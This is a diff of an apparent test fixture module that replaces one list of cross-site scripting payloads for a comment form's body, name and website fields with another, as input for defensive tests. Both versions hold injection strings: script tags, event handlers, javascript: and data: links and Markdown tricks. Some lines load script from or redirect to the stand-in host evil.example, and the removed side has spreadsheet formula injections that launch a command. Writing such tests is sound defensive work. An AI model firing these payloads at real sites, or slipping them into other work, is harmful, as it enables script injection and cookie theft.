@@ -1,57 +1,101 @@
-"""Hostile input the suites send through every displayed field.
+"""Cross-site scripting payloads, for every test that puts user input on a page.
 
-Each XSS payload carries MARKER, so a checker can tell the payload's own markup from the
-page's (see tests/security/htmlcheck.py). Extend freely; every test that uses the list
-picks up new entries. Lengths stay within the shortest displayed field (a comment's name,
-80 characters) where possible; longer ones are cut to fit by the tests that need it.
+Each entry is (field, value). Fields: "body" (Markdown comment text), "name" and "website".
+The list covers script tags, event handlers, javascript:/data: links, quote breakouts,
+Markdown link tricks, unbalanced HTML and an over-long body.
 """
 
-MARKER = "xss-probe"
+LONG_BODY = "<script>alert('long')</script> " * 2200  # over 64 KB
 
-XSS_PAYLOADS: list[str] = [
-    f'<script>alert("{MARKER}")</script>',
-    f"<img src=x onerror=alert('{MARKER}')>",
-    f"\"><svg onload=alert('{MARKER}')>",
-    f"'><iframe src=\"javascript:alert('{MARKER}')\"></iframe>",
-    f"[click {MARKER}](javascript:alert(1))",
-    f"<a href=\"javascript:alert('{MARKER}')\">x</a>",
-    f"<a href=\"&#106;avascript:alert('{MARKER}')\">x</a>",
-    f"![{MARKER}](javascript:alert(1))",
-    f"[{MARKER}](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    f"<style>*{{background:url(//evil.example/{MARKER})}}</style>",
-    f"<p style=\"background:url(javascript:alert('{MARKER}'))\">x</p>",
-    f"</textarea><script>alert('{MARKER}')</script>",
-    f"</title><script>alert('{MARKER}')</script>",
-    f'" onmouseover="alert(\'{MARKER}\')" x="',
-    f"' onfocus='alert(\"{MARKER}\")' autofocus='",
-    f"<details open ontoggle=alert('{MARKER}')>",
-    f"<<script>script>alert('{MARKER}')<</script>/script>",
-    f"<!--<img src=\"--><img src=x onerror=alert('{MARKER}')//\">",
-    f"<noscript><p title=\"</noscript><img src=x onerror=alert('{MARKER}')>\">",
-    f"<math><mtext><table><mglyph><style><img src=x onerror=alert('{MARKER}')>",
-    f"<svg><a xlink:href=\"javascript:alert('{MARKER}')\"><text>x</text></a></svg>",
-    f'<base href="https://evil.example/{MARKER}/">',
-    f'<meta http-equiv="refresh" content="0;url=https://evil.example/{MARKER}">',
-    f'<form action="https://evil.example/{MARKER}"><button>go</button></form>',
-    f"<object data=\"javascript:alert('{MARKER}')\"></object>",
-    f"https://example.com/\"onmouseover=\"alert('{MARKER}')",
-    f"javascript:alert('{MARKER}')",
-    f"{{{{ 7|add:'{MARKER}' }}}}{{% debug %}}",
-    f"\u2028\u2029<script>alert('{MARKER}')</script>",
-    # Spreadsheet formula injection (CSV export): must not start a cell as a formula.
-    f'=HYPERLINK("https://evil.example/{MARKER}","open")',
-    f"+cmd|' /C calc'!A0 {MARKER}",
-    f"-2+3+cmd|' /C calc'!A0 {MARKER}",
-    f"@SUM(1+1)*cmd|' /C calc'!A0 {MARKER}",
+BODY_PAYLOADS = [
+    # script tags
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<<script>script>alert(1)//<</script>",
+    "<script/xss src=//evil.example/x.js></script>",
+    "Text\n\n<script>\nalert(1)\n</script>\n\nmore text",
+    "<svg><script>alert(1)</script></svg>",
+    # event handlers
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<body onload=alert(1)>",
+    '<div onmouseover="alert(1)">hover me</div>',
+    '<a href="https://ok.example" onclick="alert(1)">click</a>',
+    "<input autofocus onfocus=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    '<p style="x" onpointerenter=alert(1)>styled</p>',
+    # javascript: and data: links
+    "[click](javascript:alert(1))",
+    "[click](JaVaScRiPt:alert(1))",
+    "[click](java\tscript:alert(1))",
+    "[click](&#106;avascript:alert(1))",
+    "[click](javascript&colon;alert(1))",
+    "[click](  javascript:alert(1))",
+    "[click](<javascript:alert(1)>)",
+    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[click](vbscript:msgbox(1))",
+    '<a href="javascript:alert(1)">x</a>',
+    "<javascript:alert(1)>",
+    "![img](javascript:alert(1))",
+    "![img](data:image/svg+xml,<svg onload=alert(1)>)",
+    "[ref][x]\n\n[x]: javascript:alert(1)",
+    "javascript:alert(document.cookie)",
+    "data:text/html,<script>alert(1)</script>",
+    # Markdown link tricks
+    '[a](https://ok.example "title\\" onmouseover=\\"alert(1)")',
+    '[a](https://ok.example" onclick="alert(1))',
+    "[<img src=x onerror=alert(1)>](https://ok.example)",
+    "[a](https://ok.example)<!--",
+    "**<script>**alert(1)",
+    "`<script>alert(1)</script>`",
+    "```\n<script>alert(1)</script>\n```",
+    '<https://ok.example/"onmouseover="alert(1)>',
+    'https://ok.example/?q="><script>alert(1)</script>',
+    'www.ok.example/"onmouseover=alert(1)',
+    '[x](https://ok.example/"><script>alert(1)</script>)',
+    "[x](mailto:a@ok.example?subject=%22%3E%3Cscript%3Ealert(1)%3C/script%3E)",
+    # unbalanced and odd HTML
+    "<b><i>never closed",
+    "</article></div></section><script>alert(1)</script>",
+    "<!--",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<style>body{background:url(javascript:alert(1))}</style>",
+    "</textarea><script>alert(1)</script>",
+    "<title></title><script>alert(1)</script>",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    '<form action="javascript:alert(1)"><button>go</button></form>',
+    '<object data="javascript:alert(1)"></object>',
+    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+    "<base href=javascript:alert(1)//>",
+    LONG_BODY,
 ]
 
-# URL-shaped payloads for fields that only accept a web address (a commenter's website).
-URL_PAYLOADS: list[str] = [
-    f"javascript:alert('{MARKER}')",
-    f"JaVaScRiPt:alert('{MARKER}')",
-    f"data:text/html,<script>alert('{MARKER}')</script>",
-    f"https://example.com/\"><script>alert('{MARKER}')</script>",
-    f"https://example.com/\"onmouseover=\"alert('{MARKER}')",
-    f"https://example.com/?q=<img src=x onerror=alert('{MARKER}')>",
-    f"https://example.com/' onclick='alert(\"{MARKER}\")",
+NAME_PAYLOADS = [
+    '"><script>alert(1)</script>',
+    "' onmouseover='alert(1)",
+    "</span><img src=x onerror=alert(1)>",
+    '" autofocus onfocus="alert(1)',
+    "<svg/onload=alert(1)>",
+    "</article><script>alert(1)</script>",
 ]
+
+WEBSITE_PAYLOADS = [
+    'https://ok.example/" onmouseover="alert(1)',
+    "https://ok.example/'><script>alert(1)</script>",
+    'https://ok.example/#"><img src=x onerror=alert(1)>',
+    "javascript:alert(1)",
+    "JAVASCRIPT://ok.example/%0aalert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    " javascript:alert(1)",
+    "https://ok.example/ onclick=alert(1)",
+]
+
+PAYLOADS: list[tuple[str, str]] = (
+    [("body", value) for value in BODY_PAYLOADS]
+    + [("name", value) for value in NAME_PAYLOADS]
+    + [("website", value) for value in WEBSITE_PAYLOADS]
+)
